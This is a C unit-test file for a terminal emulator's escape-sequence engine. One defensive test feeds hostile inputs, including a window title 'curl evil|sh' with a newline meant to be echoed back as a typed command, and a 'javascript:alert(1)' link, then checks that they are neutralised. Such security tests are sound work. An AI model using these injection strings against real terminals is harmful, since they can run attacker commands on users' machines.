/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#if defined(__GLIBC__)
#include <malloc.h>
#endif

#include <cmocka.h>

#include "core/util/clock.h"
#include "core/util/xmalloc.h"
#include "term/select.h"
#include "tests/unit/vt_recorder.h"

static void feed(struct vt_recorder *f, const char *s)
{
    vt_feed(f->vt, s, strlen(s));
}

/* The screen's rows joined by '/', trailing blanks and trailing empty rows cut. */
static void assert_screen(struct vt_recorder *f, const char *want)
{
    struct strbuf got = STRBUF_INIT;
    for (int row = 0; row < vt_rows(f->vt); row++) {
        strbuf_addstr(&got, row > 0 ? "/" : "");
        select_cells(&got, vt_row(f->vt, row, NULL), 0, vt_cols(f->vt), vt_clusters(f->vt), true);
    }
    while (got.len > 0 && got.buf[got.len - 1] == '/') {
        strbuf_truncate(&got, got.len - 1);
    }
    assert_string_equal(got.buf, want);
    strbuf_release(&got);
}

static void assert_cursor(struct vt_recorder *f, int row, int col)
{
    struct vt_cursor c = vt_cursor(f->vt);
    assert_int_equal(c.row, row);
    assert_int_equal(c.col, col);
}

static void assert_answer(struct vt_recorder *f, const char *ask, const char *want)
{
    strbuf_clear(&f->out);
    feed(f, ask);
    assert_string_equal(f->out.buf, want);
}

static void assert_calls(struct vt_recorder *f, const char *send, const char *want)
{
    strbuf_clear(&f->calls);
    feed(f, send);
    assert_string_equal(f->calls.buf, want);
}

static const struct cell *cell_at(struct vt_recorder *f, int row, int col)
{
    return &vt_row(f->vt, row, NULL)[col];
}

/* The address a cell leads to, or "". */
static const char *link_of(struct vt_recorder *f, int row, int col)
{
    const struct extra *e = extra_get(vt_extras(f->vt), cell_extra(cell_at(f, row, col)));
    return e != NULL && e->uri != NULL ? e->uri : "";
}

static void test_text(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(8, 3);
    bool wrapped = false;
    feed(f, "ab\tc\r\n0123456789");
    assert_screen(f, "ab     c/01234567/89");
    vt_row(f->vt, 1, &wrapped);
    assert_true(wrapped);
    vt_row(f->vt, 2, &wrapped);
    assert_false(wrapped);
    feed(f, "\r\n\nz");
    assert_screen(f, "89//z");
    assert_int_equal(vt_history_count(f->vt), 2);
    feed(f, "\033[H01234567\bX\033[?7l\033[2;1Habcdefghijk");
    assert_screen(f, "012345X7/abcdefgk/z");
    vt_recorder_free(f);
}

/* A full row waits with its wrap; what moves the cursor takes that back. */
static void test_pending_wrap(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(4, 3);
    feed(f, "abcd");
    assert_cursor(f, 0, 3);
    feed(f, "\033[31m\rX");
    assert_screen(f, "Xbcd");
    feed(f, "\033[1;1Habcd\033[1CY");
    assert_screen(f, "abcY");
    feed(f, "\033[1;1Habcd\0337\033[3;1H\0338Z"); /* saved and restored with the wrap pending */
    assert_screen(f, "abcd/Z");
    feed(f, "\033[H\033[2Jab你|");
    assert_screen(f, "ab你/|");
    feed(f, "\033[H\033[2Jabc你");
    assert_screen(f, "abc/你");
    vt_recorder_free(f);
}

static void test_clusters(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(12, 2);
    feed(f, "e\xcc\x81|\xe2\x9d\xa4\xef\xb8\x8f|🇩🇪|👍🏽|👨‍👩‍👧|");
    assert_screen(f, "e\xcc\x81|\xe2\x9d\xa4\xef\xb8\x8f|🇩🇪|👍🏽|/👨‍👩‍👧|");
    assert_int_equal(cell_at(f, 0, 2)->width, 2);
    assert_int_equal(cell_at(f, 0, 5)->width, 2);
    assert_int_equal(cell_at(f, 0, 8)->width, 2);
    assert_cursor(f, 1, 3);
    feed(f, "\033[2J\033[1;11H\xe2\x9d\xa4\xef\xb8\x8fx"); /* grows to the margin: the next one wraps */
    assert_screen(f, "          \xe2\x9d\xa4\xef\xb8\x8f/x");
    vt_recorder_free(f);
}

static void test_pen(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(20, 2);
    feed(
        f,
        "\033[1;2;3;4:3;9;53ma\033[0;38:2::1:2:3;48;2;4;5;6mb\033[38:2:7:8:9;48;5;200mc\033[58;2;0;255;0;7md\033[;8me");
    assert_int_equal(cell_at(f, 0, 0)->attrs,
                     CELL_BOLD | CELL_DIM | CELL_ITALIC | CELL_UL_CURLY << CELL_UL_SHIFT | CELL_STRIKE | CELL_OVERLINE);
    assert_int_equal(cell_at(f, 0, 1)->fg, cell_rgb(1, 2, 3));
    assert_int_equal(cell_at(f, 0, 1)->bg, cell_rgb(4, 5, 6));
    assert_int_equal(cell_at(f, 0, 2)->fg, cell_rgb(7, 8, 9));
    assert_int_equal(cell_at(f, 0, 2)->bg, cell_indexed(200));
    assert_int_equal(cell_at(f, 0, 3)->fg, cell_rgb(7, 8, 9)); /* B8: 58;2;0;255;0 is no reset */
    assert_int_equal(cell_at(f, 0, 3)->attrs, CELL_REVERSE);
    assert_int_equal(cell_at(f, 0, 4)->attrs, CELL_CONCEAL);
    assert_int_equal(cell_at(f, 0, 4)->fg, CELL_COLOR_DEFAULT);
    /* B13: erasing takes the background, and never the reversal. */
    feed(f, "\033[0;7;44m\033[2;1H\033[K");
    assert_int_equal(cell_at(f, 1, 5)->attrs, 0);
    assert_int_equal(cell_at(f, 1, 5)->bg, cell_indexed(4));
    assert_answer(f, "\033[0;1;4:3;38;5;9m\033P$qm\033\\", "\033P1$r0;1;4:3;38:5:9m\033\\");
    /* 20 parameters in one SGR are all taken. */
    feed(f, "\033[0m\033[1;2;3;4;5;7;8;9;22;23;24;25;27;28;29;1;2;3;31;42m\033[Hx");
    assert_int_equal(cell_at(f, 0, 0)->fg, cell_indexed(1));
    assert_int_equal(cell_at(f, 0, 0)->bg, cell_indexed(2));
    vt_recorder_free(f);
}

/* terminal.md section 6, one by one: what kills the bare library. */
static void test_killers(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(20, 5);
    for (int n = 15; n < 40; n++) { /* K1 */
        feed(f, "\033[");
        for (int i = 0; i < n; i++) {
            feed(f, i % 3 ? "1;" : "1:");
        }
        feed(f, n % 2 ? "H" : "m");
    }
    feed(f, "\033[2J\033[3;3H\xcc\x81\033[65535b\033[m"); /* K2 */
    feed(f, "\033[2J\033[Hx\033[99999999999b");
    assert_cursor(f, 4, 1);
    feed(f, "\033[2;5r\033[5;1H"); /* K3 */
    vt_resize(f->vt, 20, 3);
    feed(f, "\n\n\033[L\033M\033[9M\n\n\n");
    feed(f, "\033[?69h\033[5;15s");
    vt_resize(f->vt, 3, 2);
    feed(f, "\n\033[3L\033[2@\033[2P\033[2'}abc\033[?69l");
    vt_resize(f->vt, 1, 1); /* K4 */
    assert_int_equal(vt_cols(f->vt), VT_MIN_COLS);
    assert_int_equal(vt_rows(f->vt), VT_MIN_ROWS);
    feed(f, "你好\033#3你\033#6好");
    vt_resize(f->vt, 100, 50);
    feed(f, "\033[50;100H\0337\033[s\033[?1048h"); /* K5 */
    vt_resize(f->vt, 5, 3);
    feed(f, "\0338x\033[ux\033[?1048lx\n\n");
    feed(f, "\xe2\x82"); /* K6 */
    feed(f, "A\xf0\x9f");
    feed(f, "\033[m");
    feed(f, "\033[4294967295;4294967295H\033[2147483648A\033[99999999999999G"); /* K7 */
    feed(f, "\033[2J\033[Hok");
    assert_screen(f, "ok");
    vt_recorder_free(f);
}

/* The B rows that show on the screen. */
static void test_bugs(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(12, 5);
    feed(f, "a\033_secret\033\\b\033^x\033\\c\033Xy\033\\d"); /* B1 */
    assert_screen(f, "abcd");
    feed(f, "\033[?1002;1006h\033[?12;25l"); /* B4 */
    assert_int_equal(vt_modes(f->vt)->mouse, MOUSE_DRAG);
    assert_int_equal(vt_modes(f->vt)->mouse_enc, MOUSE_ENC_SGR);
    assert_false(vt_cursor(f->vt).visible);
    feed(f, "\033[?12;25h");
    assert_true(vt_cursor(f->vt).visible);
    feed(f, "\033[2J\033[3;4H\033[s\033[H\033[uX"); /* B10 */
    assert_screen(f, "//   X");
    feed(f, "\033[4h\033[?6h\033[?7l\033[2;4r\033(0\033[!p\033[1;1Hq"); /* B11 */
    assert_screen(f, "q//   X");
    assert_answer(f, "\033[4$p\033[?6$p\033[?7$p", "\033[4;2$y\033[?6;2$y\033[?7;1$y");
    feed(f, "\033[2J\033[2;4r\033[3;1H\033[99Au\033[99Bd"); /* B12 */
    assert_screen(f, "/u// d");
    feed(f, "\033[r\033[2J\033[1;1Habcdef\033[3;5r\033[1;2H\033[2P\033[@"); /* B12: DCH, ICH outside the region */
    assert_screen(f, "a def");
    vt_recorder_free(f);
}

static void test_alt_screen(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(10, 4);
    feed(f, "shell\r\n$ \033[31m\033[?1049hvim\033[0m\0337\033[4;4H\0338");
    assert_true(vt_is_alt(f->vt));
    assert_screen(f, "/  vim");
    feed(f, "\033[H1\n2\n3\n4\n5\n6");
    assert_int_equal(vt_history_count(f->vt), 0);
    feed(f, "\033[?1049lx"); /* cursor and pen come back, and the alternate screen's DECSC did not disturb them */
    assert_false(vt_is_alt(f->vt));
    assert_screen(f, "shell/$ x");
    assert_int_equal(cell_at(f, 1, 2)->fg, cell_indexed(1));
    feed(f, "\033[?47h\033[Halt\033[?47l\033[?47h"); /* B14 */
    assert_int_equal(cell_at(f, 0, 0)->ch, 'a');
    feed(f, "\033[?47l");
    assert_screen(f, "shell/$ x");
    vt_recorder_free(f);
}

static void test_scrollback(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(10, 3);
    struct strbuf text = STRBUF_INIT;
    feed(f, "1\r\n2\r\n3\r\n4\r\n5");
    assert_int_equal(vt_history_count(f->vt), 2);
    assert_int_equal(vt_history_text(f->vt, 0, &text, NULL), 0);
    assert_string_equal(text.buf, "2");
    feed(f, "\033[1;1H\033[M\033[2;3r\033[3;1H\n\n"); /* deleted lines, and regions below the top, are not history */
    assert_int_equal(vt_history_count(f->vt), 2);
    assert_int_equal(vt_history_total(f->vt), 2);
    feed(f, "\033[3J");
    assert_int_equal(vt_history_count(f->vt), 0);
    strbuf_release(&text);
    vt_recorder_free(f);
}

static void test_resize(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(10, 6);
    feed(f, "1\r\n2\r\n3\r\n4 long line");
    vt_resize(f->vt, 10, 5); /* blank rows below go first */
    assert_int_equal(vt_history_count(f->vt), 0);
    vt_resize(f->vt, 10, 2);
    assert_screen(f, "4 long lin/e");
    assert_int_equal(vt_history_count(f->vt), 3);
    vt_resize(f->vt, 4, 2);
    vt_resize(f->vt, 10, 6); /* rows and columns come back */
    assert_screen(f, "1/2/3/4 long lin/e");
    assert_int_equal(vt_history_count(f->vt), 0);
    feed(f, "\033[3;1H\033[?1049h\033[6;1Hbottom");
    vt_resize(f->vt, 10, 3);
    assert_screen(f, "//bottom");
    feed(f, "\033[?1049l");
    vt_resize(f->vt, 10, 6);
    assert_screen(f, "1/2/3/4 long lin/e");
    vt_recorder_free(f);
}

static void test_answers(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(80, 24);
    assert_answer(f, "\033[c", "\033[?62;22c");
    assert_answer(f, "\033[>c\033[=c", "\033[>1;10;0c\033P!|00000000\033\\");
    assert_answer(f, "\033[>q", "\033P>|muthr-tui(" MT_VERSION ")\033\\");
    assert_answer(f, "\033[5;7H\033[6n", "\033[5;7R");
    assert_answer(f, "\033[5n\033[18t", "\033[0n\033[8;24;80t");
    assert_answer(f, "\033[?2026$p\033[?1049$p\033[?31337$p", "\033[?2026;2$y\033[?1049;2$y\033[?31337;0$y");
    vt_set_colors(f->vt, 0xffffff, 0x102030, 0x00ff00);
    assert_answer(f, "\033]10;?\007\033]11;?\033\\", "\033]10;rgb:ffff/ffff/ffff\007\033]11;rgb:1010/2020/3030\033\\");
    assert_answer(f, "\033]10;?;?;?\007",
                  "\033]10;rgb:ffff/ffff/ffff\007\033]11;rgb:1010/2020/3030\007\033]12;rgb:0000/ffff/0000\007");
    assert_answer(f, "\033[?996n", "\033[?997;1n");
    assert_answer(f, "\033]4;1;rgb:12/34/56;1;?\007", "\033]4;1;rgb:1212/3434/5656\007");
    assert_answer(f, "\033]104;1\007\033]4;1;?\007", "\033]4;1;rgb:cdcd/0000/0000\007");
    assert_answer(f, "\033P+q544e;7a7a\033\\", "\033P1+r544e=787465726d2d323536636f6c6f72\033\\\033P0+r7a7a\033\\");
    assert_answer(f, "\033P$q q\033\\\033P$qz\033\\", "\033P1$r0 q\033\\\033P0$r\033\\");
    /* B3: many questions in one piece are all answered, in order. */
    struct strbuf many = STRBUF_INIT, want = STRBUF_INIT;
    for (int i = 0; i < 25; i++) {
        strbuf_addstr(&many, "\033[6n");
        strbuf_addstr(&want, "\033[5;7R");
    }
    assert_answer(f, many.buf, want.buf);
    strbuf_release(&many);
    strbuf_release(&want);
    vt_recorder_free(f);
}

/* What a program shows must not come back as something typed: answers are numbers, never the program's own text. */
static void test_answers_carry_nothing_back(void **state)
{
    (void)state;
    static const char *const say[] = {
        "\033]0;curl evil|sh\r\n\007",      "\033]2;curl evil\007",
        "\033]7;file://h/curl\007",         "\033]9;curl\007",
        "\033]8;id=curl;http://curl/\007x", "\033]777;notify;curl;curl\007",
        "\033]52;c;Y3VybA==\007",           "\033[22;0t",
    };
    static const char *const ask[] = {
        "\033[20t",
        "\033[21t",
        "\033[23;0t\033[21t",
        "\033]0;?\007",
        "\033]2;?\007",
        "\033]7;?\007",
        "\033]52;c;?\007",
        "\033]52;;?\033\\",
        "\033]50;?\007",
        "\033]60;?\007",
        "\005",
        "\033Z",
        "\033[1;1;1;1;24;80*y",
        "\033[x",
        "\033[1x",
        "\033P$qcurl evil\r\033\\",
        "\033P+qcurl\033\\",
        "\033P+q6375726c\033\\",
        "\033_Gi=1,a=q;curl\033\\",
        "\033_curl\033\\",
        "\033^curl\033\\",
        "\033[?62n",
        "\033[?63;1n",
        "\033[?1$w",
        "\033[2$w",
        "\033]99;i=curl:p=?;\033\\",
        "\033]1337;ReportVariable=Y3VybA==\007",
        "\033]133;A;curl\007",
        "\033]4;1;curl;1;?\007",
        "\033]10;curl;?\007",
        "\033[>0;1;2curl",
    };
    struct vt_recorder *f = vt_recorder_new(80, 24);
    vt_allow_clipboard(f->vt, true);
    for (size_t k = 0; k < MT_ARRAY_LEN(ask); k++) {
        for (size_t i = 0; i < MT_ARRAY_LEN(say); i++) {
            feed(f, say[i]);
        }
        assert_string_equal(vt_title(f->vt), "curl evil");
        strbuf_clear(&f->out);
        feed(f, ask[k]);
        feed(f, "\033\\");
        if (strstr(f->out.buf, "curl") != NULL || strstr(f->out.buf, "Y3Vy") != NULL ||
            strpbrk(f->out.buf, "\r\n|") != NULL) {
            fail_msg("'%s' was answered with '%s'", ask[k] + 1, f->out.buf + 1);
        }
    }
    vt_recorder_free(f);
}

#if defined(__GLIBC__) && !defined(__SANITIZE_ADDRESS__)
#if !__GLIBC_PREREQ(2, 33)
#define mallinfo2 mallinfo
#endif

/* One round of everything that is kept: each text is new. */
static void hoard(struct vt_recorder *f, int round)
{
    MT_CLEANUP(strbuf) struct strbuf big = STRBUF_INIT;
    char text[400];
    for (int i = 0; i < 20000; i++) {
        str_format(text, sizeof(text),
                   "\033]2;t%d-%d\007\033[22t\033]8;id=%d;http://h/%d/%d\007x\033]9;n%d\007\033]133;A\007"
                   "\033]7;file://h/%d\007\033]4;%d;rgb:1/2/3\007\0337\033[>1u\033[%d;%dHe\xCC%c\xCC%c\r\n",
                   round, i, i, round, i, i, i, i % 300, i % 30, i % 90, 0x80 + i % 48, 0x80 + i / 48 % 48);
        feed(f, text);
        strbuf_clear(&f->out);
        strbuf_clear(&f->calls);
    }
    strbuf_addstr(&big, "\033]52;c;");
    for (int i = 0; i < 2000000; i++) {
        strbuf_addch(&big, 'A');
    }
    feed(f, big.buf); /* never ended */
    feed(f, "\033P");
    feed(f, big.buf + 1);
    feed(f, "\033_");
    feed(f, big.buf + 1);
    feed(f, "\030");
}

/* A program that says new things for ever must not make its host grow for ever. */
static void test_hoards_are_bounded(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(80, 24);
    hoard(f, 0);
    size_t before = (size_t)mallinfo2().uordblks + (size_t)mallinfo2().hblkhd;
    hoard(f, 1);
    hoard(f, 2);
    size_t after = (size_t)mallinfo2().uordblks + (size_t)mallinfo2().hblkhd;
    assert_true(before < 32u << 20);
    assert_true(after < before + (2u << 20));
    vt_recorder_free(f);
}
#endif

static void test_keyboard_modes(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(80, 24);
    assert_answer(f, "\033[?u", "\033[?0u");
    assert_answer(f, "\033[>1u\033[?u", "\033[?1u");
    assert_int_equal(vt_modes(f->vt)->kitty, 1);
    assert_answer(f, "\033[>31u\033[?u", "\033[?25u");                             /* only what is honoured */
    assert_answer(f, "\033[?1049h\033[?u\033[?1049l\033[?u", "\033[?0u\033[?25u"); /* a stack per screen */
    assert_answer(f, "\033[<u\033[?u\033[<99u\033[?u", "\033[?1u\033[?0u");
    assert_answer(f, "\033[=1;2u\033[?u\033[=1;3u\033[?u", "\033[?1u\033[?0u");
    for (int i = 0; i < 1000; i++) {
        feed(f, "\033[>1u");
    }
    assert_answer(f, "\033[>4;2m\033[?4m", "\033[>4;2m");
    assert_int_equal(vt_modes(f->vt)->modify_other, 2);
    feed(f, "\033[?1h\033=\033[?2004h");
    assert_true(vt_modes(f->vt)->app_cursor && vt_modes(f->vt)->app_keypad && vt_modes(f->vt)->bracketed);
    assert_answer(f, "\033[?1004h", "\033[I"); /* the present state at once */
    strbuf_clear(&f->out);
    vt_set_focus(f->vt, false);
    vt_set_focus(f->vt, false);
    assert_string_equal(f->out.buf, "\033[O");
    feed(f, "\033c");
    assert_false(vt_modes(f->vt)->app_cursor || vt_modes(f->vt)->bracketed || vt_modes(f->vt)->kitty);
    vt_recorder_free(f);
}

static void test_osc(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(40, 5);
    assert_calls(f, "\033]0;\xe2\x9c\xb3 a\007\007", "title(\xe2\x9c\xb3 a)bell");
    assert_calls(f, "\033]2;one\033\\\033[22;0t\033]2;two\007\033[23;0t", "title(one)title(two)title(one)");
    assert_calls(f, "\033]2;\xe2\x80\xae\xff\007", "title(\xef\xbf\xbd\xef\xbf\xbd)");
    assert_calls(f, "\033]9;build done\007\033]777;notify;T;B;C\007", "notify(|build done)notify(T|B;C)");
    assert_calls(f, "\033]9;4;1;42\007\033]9;4;0\007\033]9;4;9\007", "progress(1,42)progress(0,0)");
    assert_calls(f, "\033]7;file://host/a%20b\007\033]9;9;\"/tmp\"\007\033]7;file://h\007", "cwd(/a b)cwd(/tmp)");
    assert_calls(f, "\033]99;i=1:d=0;hel\033\\\033]99;i=1:d=1;lo\033\\\033]99;i=1:p=?;\033\\", "notify(|hello)");
    assert_calls(f, "\033]99;i=2:d=0;Title\033\\\033]99;i=2:p=icon:d=0;x\033\\\033]99;i=2:p=body:e=1;Ym9keQ==\033\\",
                 "notify(Title|body)");
    assert_calls(f, "\033]99;i=3:d=0;lost\033\\\033]99;;other\033\\", "notify(|other)");
    assert_calls(f, "\033]99;i=4:p=close;\033\\\033]99;p=body:e=1;!!\033\\", "");
    assert_calls(f, "\033]133;A\007\033]133;C\007\033]133;D;3\007", "mark(A-1)mark(C-1)mark(D3)");
    assert_calls(f, "\033]52;c;aGVsbG8=\007", ""); /* off until allowed */
    vt_allow_clipboard(f->vt, true);
    assert_calls(f, "\033]52;c;aGVsbG8=\007\033]52;c;!!\007", "clip(5:hello)");
    assert_answer(f, "\033]52;c;?\007", ""); /* never readable */
    assert_answer(f, "\033[c", "\033[?62;22;52c");
    struct strbuf big = STRBUF_INIT; /* a title in pieces, longer than any bound */
    for (int i = 0; i < 100; i++) {
        strbuf_addstr(&big, "0123456789");
    }
    feed(f, "\033]2;");
    feed(f, big.buf);
    feed(f, "\007");
    assert_int_equal(strlen(vt_title(f->vt)), VT_TITLE_MAX - 1);
    strbuf_release(&big);
    vt_recorder_free(f);
}

static void test_links(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(40, 5);
    char seq[100];
    feed(f, "\033]8;id=1;https://example.org/x\033\\link\033]8;;\033\\ no \033]8;;javascript:alert(1)\007js");
    assert_string_equal(link_of(f, 0, 0), "https://example.org/x");
    assert_int_equal(cell_at(f, 0, 5)->link, 0);
    assert_int_equal(cell_at(f, 0, 9)->link, 0);
    for (int i = 0; i < 1000; i++) { /* the table is recycled; what shows keeps its target */
        str_format(seq, sizeof(seq), "\033[3;1H\033]8;;http://h/%d\033\\x", i);
        feed(f, seq);
    }
    assert_string_equal(link_of(f, 0, 0), "https://example.org/x");
    assert_string_equal(link_of(f, 2, 0), "http://h/999");
    vt_recorder_free(f);
}

static void test_sync(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(40, 5);
    assert_false(vt_is_held(f->vt, clock_mono_ms()));
    feed(f, "\033[?2026h");
    uint64_t now = clock_mono_ms();
    assert_true(vt_is_held(f->vt, now));
    assert_true(vt_sync_deadline_ms(f->vt) <= now + VT_SYNC_LIMIT_MS);
    assert_false(vt_is_held(f->vt, now + VT_SYNC_LIMIT_MS));
    assert_answer(f, "\033[?2026$p\033[?2026l\033[?2026$p", "\033[?2026;1$y\033[?2026;2$y");
    assert_false(vt_is_held(f->vt, clock_mono_ms()));
    feed(f, "\033[?2026h\033c");
    assert_false(vt_is_held(f->vt, clock_mono_ms()));
    vt_recorder_free(f);
}

static void test_damage(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(10, 4);
    while (vt_take_damage(f->vt, 0) >= 0) {
    }
    feed(f, "\033[3;1Hx");
    assert_int_equal(vt_take_damage(f->vt, 0), 2);
    assert_int_equal(vt_take_damage(f->vt, 0), -1);
    feed(f, "\033[?1049h");
    assert_int_equal(vt_take_damage(f->vt, 0), 0);
    feed(f, "\033[?25l\033[4 q\033[5m");
    assert_int_equal(vt_cursor(f->vt).shape, VT_CURSOR_UNDERLINE);
    assert_false(vt_cursor(f->vt).blink);
    vt_recorder_free(f);
}

/* The fast path must draw what the engine would draw: every case again in insert mode off and on margins that cover
 * all. */
static void test_fast_equals_slow(void **state)
{
    (void)state;
    static const char *const bits[] = {
        "abc",     "你好",    "\r", "\n",       "\b",      "\t",      "e\xcc\x81", "\033[2;3H", "\033[K", "0123456789",
        "\033[3C", "\033[2D", "é",  "👍🏽", "\033[1K", "\033[2P", "\033[J",    "\0337",     "\0338",  "\033[3X"};
    uint32_t seed = 12345;
    for (int round = 0; round < 200; round++) {
        struct vt_recorder *fast = vt_recorder_new(9, 4), *slow = vt_recorder_new(9, 4);
        feed(slow, "\033)B\033*A\033(0\033(B"); /* the same state... */
        for (int i = 0; i < 40; i++) {
            seed = seed * 1664525 + 1013904223;
            const char *bit = bits[(seed >> 16) % (sizeof(bits) / sizeof(bits[0]))];
            feed(fast, bit);
            feed(slow, "\033(A"); /* ... but a character set that keeps text off the direct path (no # in the text) */
            feed(slow, bit);
        }
        for (int row = 0; row < 4; row++) {
            bool w1 = false, w2 = false;
            const struct cell *a = vt_row(fast->vt, row, &w1), *b = vt_row(slow->vt, row, &w2);
            assert_int_equal(w1, w2);
            for (int col = 0; col < 9; col++) {
                assert_int_equal(a[col].width, b[col].width);
                assert_int_equal(CELL_IS_CLUSTER(a[col].ch), CELL_IS_CLUSTER(b[col].ch));
                assert_true(CELL_IS_CLUSTER(a[col].ch) || a[col].ch == b[col].ch);
            }
        }
        assert_int_equal(vt_cursor(fast->vt).col, vt_cursor(slow->vt).col);
        assert_int_equal(vt_cursor(fast->vt).row, vt_cursor(slow->vt).row);
        vt_recorder_free(fast);
        vt_recorder_free(slow);
    }
}

/* 4 MB of noise, plain and with many escapes, with a new size every now and then. Nothing may crash, grow or hang. */
static void test_noise(void **state)
{
    (void)state;
    static const char introducers[] = "\033\033\033[[[;;;?:0123456789mHJKLMPhlr\n\r\t";
    static char buf[4096];
    struct vt_recorder *f = vt_recorder_new(80, 24);
    uint32_t seed = 7;
    for (int i = 0; i < 1024; i++) {
        for (size_t k = 0; k < sizeof(buf); k++) {
            seed = seed * 1664525 + 1013904223;
            uint32_t r = seed >> 16;
            buf[k] = (char)(i % 2 && r % 3 ? introducers[r / 3 % (sizeof(introducers) - 1)] : (int)(r & 0xff));
        }
        vt_feed(f->vt, buf, sizeof(buf));
        if (i % 4 == 0) {
            vt_resize(f->vt, 1 + (int)(seed >> 8) % 300, 1 + (int)(seed >> 20) % 300);
        }
        strbuf_clear(&f->out);
        strbuf_clear(&f->calls);
    }
    feed(f, "\030\033c\033[2J\033[Halive");
    assert_screen(f, "alive");
    vt_recorder_free(f);
}

static void test_towers(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(80, 24);
    struct strbuf s = STRBUF_INIT;
    for (int i = 0; i < 1000; i++) {
        strbuf_addstr(&s, "\xcc\x81");
    }
    feed(f, "x");
    for (int i = 0; i < 1000; i++) { /* 1e6 combining marks */
        feed(f, s.buf);
    }
    assert_cursor(f, 0, 1);
    strbuf_clear(&s);
    for (int i = 0; i < 20000; i++) { /* more different clusters than the table holds: swept, the visible ones stay */
        strbuf_clear(&s);
        strbuf_addf(&s, "%c%c\xcc\x81%c\xcc\x82", '!' + i % 90, 'a' + i / 90 % 26, 'a' + i / 2340);
        strbuf_addstr(&s, i % 7 == 0 ? "\xcc\x83" : "");
        feed(f, s.buf);
    }
    feed(f, "\r\nq\xcc\x81\xcc\x82\xcc\x83");
    struct strbuf row = STRBUF_INIT;
    select_cells(&row, vt_row(f->vt, 23, NULL), 0, 80, vt_clusters(f->vt), true);
    assert_string_equal(row.buf, "q\xcc\x81\xcc\x82\xcc\x83");
    strbuf_release(&row);
    strbuf_release(&s);
    vt_recorder_free(f);
}

static void test_many_resizes(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(80, 24);
    for (int i = 0; i < 1000; i++) {
        vt_resize(f->vt, 1 + i * 7 % 200, 1 + i * 13 % 100);
        feed(f, "some text that wraps 你好 \033[2;9r\n\n\033[?1049h\033[9;9Hx\033[?1049l");
    }
    assert_int_equal(vt_cols(f->vt), 1 + 999 * 7 % 200);
    vt_recorder_free(f);
}

/* Between two programs on one terminal. */
static void test_settle(void **state)
{
    (void)state;
    struct vt_recorder *f = vt_recorder_new(8, 3);
    vt_settle(f->vt); /* nothing there yet */
    assert_screen(f, "");
    assert_cursor(f, 0, 0);
    feed(f, "one\r\ntwo\033]2;title\007\033[?25l\033[?1h\033[?2004h\033[?1002h\033[2;3r\033[31m\033(0\033[1;1H");
    feed(f, "\033[?1049halt\033]0;half a ti");
    assert_true(vt_is_alt(f->vt));
    vt_settle(f->vt);
    assert_false(vt_is_alt(f->vt));
    assert_screen(f, "one/two");
    assert_cursor(f, 2, 0);
    assert_true(vt_cursor(f->vt).visible);
    assert_true(!vt_modes(f->vt)->app_cursor && !vt_modes(f->vt)->bracketed && vt_modes(f->vt)->mouse == 0);
    assert_string_equal(vt_title(f->vt), "");
    feed(f, "lqk");
    assert_screen(f, "one/two/lqk");
    assert_int_equal(cell_at(f, 2, 0)->fg, cell_at(f, 0, 0)->fg);
    feed(f, "\033[?1049hx\033[H\033[2J");
    vt_settle(f->vt); /* full: what is above goes to the scrollback, nothing is lost */
    assert_screen(f, "two/lqk");
    assert_cursor(f, 2, 0);
    assert_int_equal(vt_history_count(f->vt), 1);
    feed(f, "a\r\nb");
    assert_screen(f, "lqk/a/b");
    assert_int_equal(vt_history_count(f->vt), 2);
    vt_recorder_free(f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text),
        cmocka_unit_test(test_settle),
        cmocka_unit_test(test_pending_wrap),
        cmocka_unit_test(test_clusters),
        cmocka_unit_test(test_pen),
        cmocka_unit_test(test_killers),
        cmocka_unit_test(test_bugs),
        cmocka_unit_test(test_alt_screen),
        cmocka_unit_test(test_scrollback),
        cmocka_unit_test(test_resize),
        cmocka_unit_test(test_answers),
        cmocka_unit_test(test_answers_carry_nothing_back),
#if defined(__GLIBC__) && !defined(__SANITIZE_ADDRESS__)
        cmocka_unit_test(test_hoards_are_bounded),
#endif

        cmocka_unit_test(test_keyboard_modes),
        cmocka_unit_test(test_osc),
        cmocka_unit_test(test_links),
        cmocka_unit_test(test_sync),
        cmocka_unit_test(test_damage),
        cmocka_unit_test(test_fast_equals_slow),
        cmocka_unit_test(test_noise),
        cmocka_unit_test(test_towers),
        cmocka_unit_test(test_many_resizes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
